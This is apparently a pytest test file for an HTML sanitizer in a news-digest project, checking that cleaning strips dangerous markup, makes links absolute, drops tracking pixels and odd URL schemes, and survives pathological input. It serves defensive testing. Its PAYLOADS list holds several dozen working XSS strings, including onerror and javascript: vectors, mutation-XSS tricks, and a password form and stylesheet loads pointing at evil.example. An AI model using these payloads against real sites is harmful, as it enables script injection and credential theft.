import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from digest.sources.sanitize import absolute, clean_html, clean_line, language_tag, plain_text

#: Written for this test in the manner of well-known collections of payloads.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<a href='jAvA&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<svg><g onload=alert(1)></g></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    "<p id=__proto__ name=x class=y data-x=z>x</p>",
    "<a href=//x onclick=alert(1) target=_top>x</a>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<img src=x alt='a>b<script>alert(1)</script>'>",
]
_TAGS = re.compile(r"<[^>]*>")


def is_harmless(cleaned: str) -> bool:
    """Looks at tags only: text that says `onerror=` is just text."""
    unquoted = [re.sub(r'="[^"]*"', "", tag).lower() for tag in _TAGS.findall(cleaned)]
    values = [html.unescape(value).lower() for value in re.findall(r'(?:href|src)="([^"]*)"', cleaned)]
    dangerous = ("<script", "<style", "<svg", "<form", "<iframe", "<base", "<meta", "<link", "<object", "style", " on")
    return not any(word in tag for tag in unquoted for word in dangerous) and all(
        value.startswith(("http://", "https://", "mailto:")) for value in values
    )


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("base", ["", "https://example.org/a/b"])
def test_payloads(payload: str, base: str) -> None:
    cleaned = clean_html(f"<p>before</p>{payload}", base)
    assert "before" in cleaned
    assert is_harmless(cleaned), cleaned


@given(
    st.lists(
        st.sampled_from(
            [
                "<p>",
                "</p>",
                "<b",
                ">",
                "<a href=",
                "'",
                '"',
                "javascript:",
                "<svg>",
                "</svg>",
                "<style>",
                "&#",
                "x",
                "<!--",
                "-->",
            ]
        )
    )
)
def test_any_soup_is_harmless_and_cleaning_twice_changes_nothing(parts: list[str]) -> None:
    cleaned = clean_html("".join(parts), "https://example.org/")
    assert is_harmless(cleaned)
    assert clean_html(cleaned, "https://example.org/") == cleaned


@pytest.mark.parametrize(
    ("link", "base", "whole"),
    [
        ("/a", "https://example.org/d/e", "https://example.org/a"),
        ("a?b=c&d", "https://example.org/d/e", "https://example.org/d/a?b=c&d"),
        ("//cdn.example.org/a", "http://example.org/", "https://cdn.example.org/a"),
        ("http://example.org/ä", "", "http://example.org/ä"),
        (" http://example.org/a\n", "", "http://example.org/a"),
        ("http://example.org/a b", "", "http://example.org/a%20b"),
        ("java\nscript:alert(1)", "https://example.org/", None),
        ("mailto:a@example.org", "", None),
        ("http://ann:pw@example.org/", "", None),
        ("/a", "", None),
        ("http://[::1/", "", None),
        ("http://", "", None),
        ("http://example.org/" + "a" * 5_000, "", None),
        ("http://example.org/\u202egnp.exe", "", None),
    ],
)
def test_absolute(link: str, base: str, whole: str | None) -> None:
    assert absolute(link, base) == whole


def test_links_in_html_become_absolute() -> None:
    cleaned = clean_html('<a href="b">x</a><img src="//c.example/i.png">', "http://example.org/a/")
    assert 'href="http://example.org/a/b"' in cleaned
    assert 'src="https://c.example/i.png"' in cleaned
    assert clean_html('<a href="b">x</a><img src="i.png" alt="a > b">') == '<a rel="noopener noreferrer">x</a>'


@pytest.mark.parametrize(
    ("written", "link"),
    [
        ("HREF = 'b'", "http://x.example/b"),
        ('href=\n"?a"', "http://x.example/?a"),
        ("href=''", "http://x.example/"),
        ("href", "http://x.example/"),
        ("href=&#47;b", "http://x.example/b"),
        ("href=Http://y.example/", "Http://y.example/"),
        ("title='href=http://y.example/' href=b", "http://x.example/b"),
    ],
)
def test_links_become_absolute_however_they_are_written(written: str, link: str) -> None:
    cleaned = clean_html(f"<a href='https://y.example/'>y</a><a {written}>x</a>", "http://x.example/")
    assert f'href="{link}"' in cleaned


@pytest.mark.parametrize(
    "pixel", ['<img src="https://t.example/x" width="1" height="1">', '<img width=0 src="https://t.example/x">']
)
def test_tracking_pixels_are_dropped(pixel: str) -> None:
    assert clean_html(f"<p>a</p>{pixel}") == "<p>a</p>"


@pytest.mark.parametrize("link", ["ftp://example.org/", "tel:112", "magnet:?x", "file:///etc/passwd", "cid:1"])
def test_other_schemes_are_dropped(link: str) -> None:
    assert "href" not in clean_html(f'<a href="{link}">x</a>', "https://example.org/")
    assert 'href="mailto:a@example.org"' in clean_html('<a href="mailto:a@example.org">x</a>')


def test_absurd_numbers_are_dropped() -> None:
    assert clean_html('<table><tr><td colspan="99999999" rowspan="2">a</td></tr></table>').count("span") == 1


@pytest.mark.parametrize("tag", ["div", "b", "blockquote", "font color=red", 'span title="<"'])
def test_deep_nesting_takes_little_time_and_keeps_the_words(tag: str) -> None:
    assert "words" in clean_html(f"<{tag}>" * 15_000 + "words")


@pytest.mark.parametrize(
    "text", ["<a" * 50_000, "<" * 100_000, "<img " * 50_000, "<!--" * 50_000, "&" * 50_000, '<p title="' * 20_000]
)
def test_unfinished_tags_take_little_time(text: str) -> None:
    assert is_harmless(clean_html(text))
    plain_text(text)


def test_plain_text() -> None:
    assert plain_text("<p>Tom &amp; <b>Ann</b></p><p>2 &lt; 3<br>end</p><script>x</script>") == "Tom & Ann 2 < 3 end"
    assert plain_text("Tom &amp; Ann") == "Tom & Ann"


def test_clean_line() -> None:
    assert clean_line(" a\r\nb\u2028c\td\x00\u202ee\ud800 ") == "a b c de"
    assert len(clean_line("x" * 1_000)) == 500


def test_language_tag() -> None:
    assert [language_tag(tag) for tag in ("en", "de_AT", "zh-Hant-TW", "english language", "", None, "x;y")] == [
        "en",
        "de-AT",
        "zh-Hant-TW",
        "",
        "",
        "",
        "",
    ]
